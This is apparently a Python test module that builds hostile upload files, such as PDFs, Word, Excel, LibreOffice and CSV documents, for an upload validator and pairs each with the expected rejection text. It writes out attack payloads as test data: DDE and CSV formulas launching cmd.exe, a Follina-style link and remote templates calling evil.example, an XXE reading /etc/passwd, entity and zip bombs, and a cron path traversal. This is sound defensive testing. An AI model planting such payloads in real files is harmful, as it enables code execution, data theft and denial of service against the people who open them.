"""Hostile documents, each with a part of the words in which it is refused."""

import io
import struct
import warnings
import zipfile

import openpyxl
from pikepdf import Array, Dictionary, Name, String

from tests.media.uploads.hostile_pictures import SVG, Case
from tests.media.uploads.office_files import (
    ODF_NAMES,
    WORD_NAMES,
    field,
    office,
    ole,
    open_document,
    relations,
    sheet,
    word,
    word_with,
    zipped,
)
from tests.media.uploads.pdf_files import (
    annotated,
    attached,
    in_streams,
    locked,
    opening,
    pdf,
    pressed,
    with_form,
    with_portfolio,
    with_script_in_names,
    with_scripted_page,
    with_xfa,
    without_table,
)
from tests.media.uploads.pictures import MARKUP, archive, jpeg

PROGRAM = b"MZ\x90\0\3\0\0\0" + bytes(200)
BOMB_PART = 100_000_000


def workbook() -> bytes:
    """Return an ordinary file of Excel."""
    buffer = io.BytesIO()
    openpyxl.Workbook().save(buffer)
    return buffer.getvalue()


def claiming(content: bytes, unpacked: int) -> bytes:
    """Return an archive whose list says how large each part is once it is unpacked."""
    place = content.index(b"PK\x01\x02")
    while place >= 0:
        content = content[: place + 24] + struct.pack("<I", unpacked) + content[place + 28 :]
        place = content.find(b"PK\x01\x02", place + 1)
    return content


def locked_archive() -> bytes:
    """Return a Word file whose parts are said to be encrypted."""
    content = word()
    place = content.index(b"PK\x01\x02") + 8
    return content[:place] + b"\1" + content[place + 1 :]


def overlapping() -> bytes:
    """Return a Word file in which one piece of data serves as many parts."""
    content = word("", {f"word/media/{n}.bin": bytes(200_000) for n in range(3)})
    places = []
    place = content.index(b"PK\x01\x02")
    while place >= 0:
        places.append(place)
        place = content.find(b"PK\x01\x02", place + 1)
    shared = content[places[-1] + 42 : places[-1] + 46]
    for place in places[-3:]:
        content = content[: place + 42] + shared + content[place + 46 :]
    return content


def twice() -> bytes:
    """Return a Word file with two main parts: programs differ in which of them they read."""
    buffer = io.BytesIO(word())
    with warnings.catch_warnings(action="ignore"), zipfile.ZipFile(buffer, "a") as file:
        file.writestr("word/document.xml", f"<w:document {WORD_NAMES}/>")
    return buffer.getvalue()


def bomb_of_entities() -> str:
    """Return XML that grows to gigabytes while it is read."""
    entities = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 10))
    return f'<!DOCTYPE x [<!ENTITY e0 "ha">{entities}]><x>&e9;</x>'


def event(address: str) -> str:
    """Return what runs a macro of LibreOffice when the file is opened."""
    return (
        "<office:scripts><office:event-listeners><script:event-listener "
        f'script:language="ooo:script" xlink:href="{address}"/></office:event-listeners>'
        "</office:scripts>"
    )


WORKBOOK = "<workbook><sheets/></workbook>"
FOLLINA = "mhtml:https://evil.example/a.html!x-usc:https://evil.example/a.html"

OTHER_PREFIXES = open_document(
    "ods",
    '<t:cell xmlns:t="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
    'xmlns:table="urn:x" table:formula="1" t:formula="of:=DDE(&quot;cmd&quot;;&quot;x&quot;)"/>',
)
OTHER_LINK = open_document(
    "odt",
    '<text:a xmlns:x="urn:x" x:href="#" xlink:href="vnd.sun.star.script:a.b?language=Basic"/>',
)

PDFS = {
    "a script that runs at opening": Case(
        "a.pdf", lambda: pdf(opening(S=Name.JavaScript, JS=String("app.alert(1)"))), "JavaScript"
    ),
    "a script by name": Case("a.pdf", lambda: pdf(with_script_in_names), "JavaScript"),
    "a script of a page": Case("a.pdf", lambda: pdf(with_scripted_page), "JavaScript"),
    "a script in a compressed object": Case(
        "a.pdf", lambda: in_streams(with_script_in_names), "JavaScript"
    ),
    "a script whose name is escaped": Case(
        "a.pdf",
        lambda: pdf(opening(S=Name.JavaScript, JS=String("x"))).replace(
            b"/JavaScript", b"/J#61vaScrip#74"
        ),
        "JavaScript",
    ),
    "a script of a field": Case(
        "a.pdf",
        lambda: pdf(
            with_form(AA=Dictionary(K=Dictionary(S=Name.JavaScript, JS=String("event.rc=0"))))
        ),
        "JavaScript",
    ),
    "a script as an address": Case(
        "a.pdf", lambda: pdf(pressed(S=Name.URI, URI=String("javascript:alert(1)"))), "JavaScript"
    ),
    "a script in a file without a table": Case(
        "a.pdf",
        lambda: without_table(pdf(opening(S=Name.JavaScript, JS=String("app.alert(1)")))),
        "JavaScript",
    ),
    "a script behind an encryption without a password": Case(
        "a.pdf",
        lambda: pdf(
            with_script_in_names,
            encryption=__import__("pikepdf").Encryption(user="", owner="secret"),
        ),
        "JavaScript",
    ),
    "a program to start": Case(
        "a.pdf", lambda: pdf(opening(S=Name.Launch, F=String("calc.exe"))), "start programs"
    ),
    "a program of Windows to start": Case(
        "a.pdf",
        lambda: pdf(opening(S=Name.Launch, Win=Dictionary(F=String("cmd.exe"), P=String("/c x")))),
        "start programs",
    ),
    "a program in place of another PDF": Case(
        "a.pdf",
        lambda: pdf(pressed(S=Name.GoToR, F=String("update.exe"))),
        "a link that starts a program",
    ),
    "a program as an address": Case(
        "a.pdf",
        lambda: pdf(pressed(S=Name.URI, URI=String("file:///C:/Windows/system32/calc.exe"))),
        "a link that starts a program",
    ),
    "a search of Windows": Case(
        "a.pdf",
        lambda: pdf(pressed(S=Name.URI, URI=String("search-ms:query=x&crumb=location:\\\\h\\a"))),
        "a link that starts a program",
    ),
    "a form that is sent": Case(
        "a.pdf",
        lambda: pdf(pressed(S=Name.SubmitForm, F=String("https://evil.example"))),
        "sends what readers type",
    ),
    "data that is taken": Case(
        "a.pdf", lambda: pdf(pressed(S=Name.ImportData, F=String("a.fdf"))), "takes data"
    ),
    "a file on another computer": Case(
        "a.pdf",
        lambda: pdf(opening(S=Name.GoToR, F=String("\\\\\\\\evil.example\\\\a.pdf"), D=Array([0]))),
        "another computer",
    ),
    "a file on another computer among letters that are not plain": Case(
        "a.pdf",
        lambda: pdf(opening(S=Name.GoToR, F=String(b"\\\\evil\\" + bytes(range(128, 160))))),
        "another computer",
    ),
    "a file on another computer with the mark of UTF-8": Case(
        "a.pdf",
        lambda: pdf(opening(S=Name.GoToR, F=String(b"\xef\xbb\xbf\\\\evil.example.org\\a.pdf"))),
        "another computer",
    ),
    "a script as an address behind a control character": Case(
        "a.pdf",
        lambda: pdf(pressed(S=Name.URI, URI=String(b"\1javascript:alert(1)"))),
        "JavaScript",
    ),
    "an address that opens by itself": Case(
        "a.pdf",
        lambda: pdf(opening(S=Name.URI, URI=String("https://evil.example"))),
        "another computer",
    ),
    "content of another computer": Case(
        "a.pdf",
        lambda: pdf(
            annotated(
                "Square", X=Dictionary(Ref=Dictionary(F=String("https://evil.example/a.pdf")))
            )
        ),
        "another computer",
    ),
    "an attached program": Case(
        "a.pdf", lambda: pdf(attached("setup.exe", PROGRAM)), "contains other files"
    ),
    "an attached file with macros": Case(
        "a.pdf", lambda: pdf(attached("a.docm", word())), "contains other files"
    ),
    "an attached program that is called data": Case(
        "a.pdf", lambda: pdf(attached("a.csv", PROGRAM)), "contains other files"
    ),
    "an attached page that is called data": Case(
        "a.pdf",
        lambda: pdf(
            attached("a.xml", b'<html xmlns="http://www.w3.org/1999/xhtml"><script/></html>')
        ),
        "contains other files",
    ),
    "an attachment at a place of a page": Case(
        "a.pdf",
        lambda: pdf(annotated("FileAttachment", FS=Dictionary(F=String("a.js"), EF=Dictionary()))),
        "contains other files",
    ),
    "a portfolio": Case("a.pdf", lambda: pdf(with_portfolio), "portfolio"),
    "a form of Acrobat's own": Case("a.pdf", lambda: pdf(with_xfa), "XFA"),
    "Flash": Case("a.pdf", lambda: pdf(annotated("RichMedia")), "Flash"),
    "a model": Case("a.pdf", lambda: pdf(annotated("3D")), "3D model"),
    "a film": Case("a.pdf", lambda: pdf(annotated("Screen")), "a film"),
    "a password": Case("a.pdf", locked, "protected by a password"),
    "PDF and archive": Case("a.pdf", lambda: pdf() + archive(a=b"x"), "something else at once"),
    "page and PDF": Case("a.pdf", lambda: MARKUP + pdf(), "something else at once"),
    "picture and PDF": Case("a.pdf", lambda: jpeg()[:40] + pdf(), "something else at once"),
    "a page as PDF": Case("a.pdf", lambda: MARKUP, "not a PDF"),
    "a Word file as PDF": Case("a.pdf", word, "not a PDF"),
    "half a PDF": Case("a.pdf", lambda: pdf()[:200], "damaged"),
    "nothing as PDF": Case("a.pdf", lambda: b"", "not a PDF"),
}

OFFICE = {
    "DDE by another prefix": Case("a.ods", lambda: OTHER_PREFIXES, "start programs"),
    "a macro as the second of two links": Case("a.odt", lambda: OTHER_LINK, "macros"),
    "macros": Case("a.docx", lambda: word("", {"word/vbaProject.bin": b"x"}), "contains macros"),
    "macros of a workbook": Case(
        "a.xlsx", lambda: office("xlsx", {"xl/vbaProject.bin": b"x"}, WORKBOOK), "contains macros"
    ),
    "macros under another name": Case(
        "a.docx", lambda: word_with(("vbaProject", "readme.bin", False)), "contains macros"
    ),
    "macros by the type of the file": Case(
        "a.docx",
        lambda: word(
            "",
            {
                "[Content_Types].xml": '<Types><Override PartName="/word/document.xml" ContentType='
                '"application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'
            },
        ),
        "contains macros",
    ),
    "macros of Excel 4": Case(
        "a.xlsx",
        lambda: office("xlsx", {"xl/macrosheets/sheet1.xml": sheet("EXEC(1)")}, WORKBOOK),
        "contains macros",
    ),
    "a name that runs at opening": Case(
        "a.xlsx",
        lambda: office(
            "xlsx",
            main="<workbook><definedNames><definedName name='_xlnm.Auto_Open'>A!1</definedName>"
            "</definedNames></workbook>",
        ),
        "contains macros",
    ),
    "a template elsewhere": Case(
        "a.docx",
        lambda: word(
            "",
            {
                "word/_rels/settings.xml.rels": relations(
                    ("attachedTemplate", "https://evil.example/a.dotm", True)
                )
            },
        ),
        "takes its template from another computer",
    ),
    "a template of another computer": Case(
        "a.docx",
        lambda: word_with(("attachedTemplate", "file:///\\\\evil.example\\a\\b.dotm", True)),
        "takes its template",
    ),
    "a template, written in UTF-16": Case(
        "a.docx",
        lambda: word(
            "",
            {
                "word/_rels/settings.xml.rels": relations(
                    ("attachedTemplate", "https://evil.example/a.dotm", True)
                )
                .replace("UTF-8", "UTF-16")
                .encode("utf-16")
            },
        ),
        "takes its template",
    ),
    "an object elsewhere": Case(
        "a.docx", lambda: word_with(("oleObject", FOLLINA, True)), "a program"
    ),
    "a picture elsewhere": Case(
        "a.docx",
        lambda: word_with(("image", "https://evil.example/pixel.png", True)),
        "would learn who reads it",
    ),
    "a link that starts a program": Case(
        "a.docx",
        lambda: word_with(("hyperlink", "file:///C:/Windows/System32/calc.exe", True)),
        "a program",
    ),
    "a link with a script": Case(
        "a.docx", lambda: word_with(("hyperlink", "javascript:alert(1)", True)), "a program"
    ),
    "a page to insert": Case(
        "a.docx", lambda: word_with(("aFChunk", "a.html", False)), "contains another one"
    ),
    "DDE": Case(
        "a.docx",
        lambda: word(field("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot;")),
        "start programs",
    ),
    "DDE in pieces": Case("a.docx", lambda: word(field(" DD", "EAU", "TO x y")), "start programs"),
    "DDE in letters by number": Case(
        "a.docx", lambda: word(field("&#68;&#x44;E x y")), "start programs"
    ),
    "DDE as a simple field": Case(
        "a.docx", lambda: word('<w:fldSimple w:instr=" DDE x y "/>'), "start programs"
    ),
    "DDE in another folder": Case(
        "a.docx",
        lambda: word("", {"other/a.xml": f"<w:x {WORD_NAMES}>{field('DDE x y')}</w:x>"}),
        "start programs",
    ),
    "DDE in a part that is called plain text": Case(
        "a.docx",
        lambda: word(
            "",
            {
                "word/a.txt": f"<w:x {WORD_NAMES}>{field('DDE x y')}</w:x>",
                "[Content_Types].xml": '<Types><Default Extension="xml" ContentType="text/xml"/>'
                '<Override PartName="/word/a.txt" ContentType="application/vnd.openxmlformats-'
                'officedocument.wordprocessingml.document.main+xml"/></Types>',
            },
        ),
        "start programs",
    ),
    "text of another computer": Case(
        "a.docx",
        lambda: word(field("INCLUDETEXT &quot;https://evil.example/a.docx&quot;")),
        "would learn who reads it",
    ),
    "a package": Case(
        "a.docx",
        lambda: word("", {"word/embeddings/oleObject1.bin": ole("\x01Ole10Native")}),
        "contains another one",
    ),
    "an object with macros": Case(
        "a.docx", lambda: word("", {"word/embeddings/a.bin": ole("_VBA_PROJECT")}), "macros"
    ),
    "a program within": Case(
        "a.docx", lambda: word("", {"word/embeddings/a.exe": PROGRAM}), "a program"
    ),
    "a program under another name": Case(
        "a.docx", lambda: word("", {"word/media/image1.png": PROGRAM}), "a program"
    ),
    "RTF within": Case(
        "a.docx", lambda: word("", {"word/media/a.dat": b"{\\rtf1 \\object"}), "a program"
    ),
    "an archive within": Case(
        "a.docx", lambda: word("", {"word/media/a.dat": archive(a=b"x")}), "contains another one"
    ),
    "ActiveX": Case(
        "a.docx", lambda: word("", {"word/activeX/activeX1.xml": "<ax:ocx/>"}), "ActiveX"
    ),
    "ActiveX under another name": Case(
        "a.docx", lambda: word_with(("control", "a/b.xml", False)), "ActiveX"
    ),
    "a workbook with macros within": Case(
        "a.pptx",
        lambda: office("pptx", {"ppt/embeddings/a.xlsm": workbook()}, "<p/>"),
        "contains macros",
    ),
    "a workbook with hidden macros within": Case(
        "a.docx",
        lambda: word(
            "",
            {"word/embeddings/a.xlsx": office("xlsx", {"xl/vbaProject.bin": b"x"}, WORKBOOK)},
        ),
        "contains macros",
    ),
    "DDE of a workbook": Case(
        "a.xlsx",
        lambda: office(
            "xlsx",
            {"xl/externalLinks/externalLink1.xml": "<externalLink><ddeLink/></externalLink>"},
            WORKBOOK,
        ),
        "start programs",
    ),
    "DDE as a formula": Case(
        "a.xlsx",
        lambda: office("xlsx", {"xl/worksheets/sheet1.xml": sheet("cmd|'/c calc'!A0")}, WORKBOOK),
        "start programs",
    ),
    "a formula that asks elsewhere": Case(
        "a.xlsx",
        lambda: office(
            "xlsx",
            {"xl/worksheets/sheet1.xml": sheet('_xlfn.WEBSERVICE("https://evil.example/"&amp;A1)')},
            WORKBOOK,
        ),
        "start programs",
    ),
    "a connection": Case(
        "a.xlsx",
        lambda: office(
            "xlsx",
            {"xl/connections.xml": "<connections><connection name='Query - Jobs'/></connections>"},
            WORKBOOK,
        ),
        "fetches data from elsewhere (Query - Jobs)",
    ),
    "a connection under another name": Case(
        "a.xlsx",
        lambda: office(
            "xlsx",
            {"xl/a.xml": "<a><connection name='Query' refreshedVersion='8'/></a>"},
            WORKBOOK,
        ),
        "fetches data from elsewhere",
    ),
    "a query under another name": Case(
        "a.xlsx",
        lambda: office("xlsx", {"xl/a.xml": "<queryTable connectionId='1'/>"}, WORKBOOK),
        "fetches data from elsewhere",
    ),
    "a sheet in another folder": Case(
        "a.xlsx",
        lambda: office("xlsx", {"other/a.xml": sheet("cmd|'/c calc'!A0")}, WORKBOOK),
        "start programs",
    ),
    "a query": Case(
        "a.xlsx",
        lambda: office("xlsx", {"xl/queryTables/queryTable1.xml": "<queryTable/>"}, WORKBOOK),
        "fetches data from elsewhere",
    ),
    "a workbook elsewhere": Case(
        "a.xlsx",
        lambda: office(
            "xlsx",
            {
                "xl/externalLinks/_rels/externalLink1.xml.rels": relations(
                    ("externalLinkPath", "\\\\evil.example\\a\\b.xlsx", True)
                )
            },
            WORKBOOK,
        ),
        "would learn who reads it",
    ),
    "a slide that starts a program": Case(
        "a.pptx",
        lambda: office(
            "pptx",
            {"ppt/slides/slide1.xml": "<a><hlinkClick action='ppaction://program'/></a>"},
            "<p/>",
        ),
        "a program",
    ),
    "a slide that runs a macro": Case(
        "a.pptx",
        lambda: office(
            "pptx",
            {"ppt/slides/slide1.xml": "<a><hlinkHover action='ppaction://macro?name=x'/></a>"},
            "<p/>",
        ),
        "macros",
    ),
    "XML that reads a file": Case(
        "a.docx",
        lambda: office(
            "docx", main='<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'
        ),
        "not what its name says",
    ),
    "XML that grows": Case(
        "a.xlsx", lambda: office("xlsx", main=bomb_of_entities()), "not what its name says"
    ),
    "XML that is none": Case(
        "a.docx", lambda: office("docx", main="<w:document><broken"), "not what its name says"
    ),
    "a bomb that says so": Case("a.docx", lambda: claiming(word(), 400_000_000), "more than 1 GB"),
    "a bomb that denies it": Case(
        "a.docx",
        lambda: claiming(word("", {"word/media/a.bin": bytes(5_000_000)}), 200),
        "not what its name says",
    ),
    "a bomb of overlapping parts": Case("a.docx", overlapping, "more than 1 GB"),
    "a main part twice": Case("a.docx", twice, "not what its name says"),
    "a path that climbs": Case(
        "a.docx", lambda: word("", {"../../../etc/cron.d/x": "x"}), "not what its name says"
    ),
    "parts with a password": Case("a.docx", locked_archive, "protected by a password"),
    "an old file as a new one": Case(
        "a.docx", lambda: ole("WordDocument", "Macros"), "of an older format"
    ),
    "a locked file": Case("a.xlsx", lambda: ole("EncryptedPackage"), "protected by a password"),
    "a program as Word": Case("a.docx", lambda: PROGRAM, "it is a program"),
    "a PDF as Word": Case("a.docx", pdf, "it is a PDF"),
    "a page as Excel": Case("a.xlsx", lambda: MARKUP, "it is a web page"),
    "Excel as Word": Case("a.docx", workbook, "not what its name says"),
    "a program that unpacks itself": Case("a.docx", lambda: PROGRAM + word(), "it is a program"),
    "a picture before the archive": Case(
        "a.docx", lambda: b"GIF89a" + bytes(9) + word(), "it is a GIF picture"
    ),
    "Basic": Case(
        "a.odt",
        lambda: open_document("odt", parts={"Basic/Standard/Module1.xml": "<script/>"}),
        "contains macros",
    ),
    "Python": Case(
        "a.ods", lambda: open_document("ods", parts={"Scripts/python/a.py": "x"}), "macros"
    ),
    "a macro that runs at opening": Case(
        "a.odt",
        lambda: open_document(
            "odt", event("vnd.sun.star.script:Standard.M.Main?language=Basic&amp;location=document")
        ),
        "contains macros",
    ),
    "a link that runs a macro": Case(
        "a.odt",
        lambda: open_document("odt", '<text:a xlink:href="macro:///Standard.M.Main()">x</text:a>'),
        "contains macros",
    ),
    "a script in the text": Case(
        "a.odt",
        lambda: open_document("odt", '<text:script script:language="JavaScript">x</text:script>'),
        "contains macros",
    ),
    "DDE of LibreOffice": Case(
        "a.ods", lambda: open_document("ods", "<table:dde-link/>"), "start programs"
    ),
    "DDE as a formula of LibreOffice": Case(
        "a.ods",
        lambda: open_document(
            "ods",
            '<table:table-cell table:formula="of:=DDE(&quot;a&quot;;&quot;b&quot;)"/>',
        ),
        "start programs",
    ),
    "a picture elsewhere of LibreOffice": Case(
        "a.odt",
        lambda: open_document("odt", '<draw:image xlink:href="https://evil.example/a.png"/>'),
        "would learn who reads it",
    ),
    "a template elsewhere of LibreOffice": Case(
        "a.odt",
        lambda: open_document(
            "odt",
            parts={"meta.xml": f'<a {ODF_NAMES}><meta:template xlink:href="//evil/a.ott"/></a>'},
        ),
        "takes its template",
    ),
    "a slide that starts a program of LibreOffice": Case(
        "a.odp",
        lambda: open_document(
            "odp",
            '<presentation:event-listener presentation:action="execute" xlink:href="file:///bin/a"/>',
        ),
        "a program",
    ),
    "a password of LibreOffice": Case(
        "a.odt",
        lambda: open_document("odt", manifest="<manifest:encryption-data/>"),
        "protected by a password",
    ),
    "a text as a table": Case("a.ods", lambda: open_document("odt"), "not what its name says"),
    "an archive as LibreOffice": Case(
        "a.odt", lambda: zipped({"a": "x"}), "not what its name says"
    ),
}

OTHERS = {
    "DDE in a list": Case(
        "a.csv", lambda: b"year,jobs\n2021,\"=cmd|' /C calc'!A0\"\n", "contains a formula"
    ),
    "DDE in a list with a sign": Case(
        "a.csv", lambda: b"year;jobs\n2021;@SUM(1)+cmd|'/C calc'!A0\n", "contains a formula"
    ),
    "a formula that sends": Case(
        "a.csv",
        lambda: b'a,"=HYPERLINK(""https://evil.example/?""&A1,""See"")"\n',
        "contains a formula",
    ),
    "bytes as a list": Case("a.csv", lambda: b"\0\1\xff", "not plain UTF-8"),
    "a page as a list": Case("a.csv", lambda: MARKUP, "it is a web page"),
    "a workbook as a list": Case("a.csv", workbook, "it is an archive"),
    **{
        f"a file that ends in {extension}": Case(
            f"a.{extension}", lambda content=content: content, f"“.{extension}” are not accepted"
        )
        for extension, content in {
            "exe": PROGRAM,
            "html": MARKUP,
            "svg": SVG,
            "js": b"alert(1)",
            "zip": archive(a=b"x"),
            "doc": ole("WordDocument"),
            "xls": ole("Workbook", "_VBA_PROJECT_CUR"),
            "docm": word("", {"word/vbaProject.bin": b"x"}),
            "xlsm": workbook(),
            "rtf": b"{\\rtf1 \\object}",
            "lnk": b"L\0\0\0\1\x14\2\0",
            "hta": MARKUP,
            "mht": b"MIME-Version: 1.0",
            "xml": b"<a/>",
            "swf": b"CWS",
            "jar": archive(a=b"x"),
        }.items()
    },
    "a file without an end": Case("a", pdf, "are not accepted"),
    "a page behind a name": Case("a.pdf.html", pdf, "are not accepted"),
}
DOCUMENTS = {**PDFS, **OFFICE, **OTHERS}
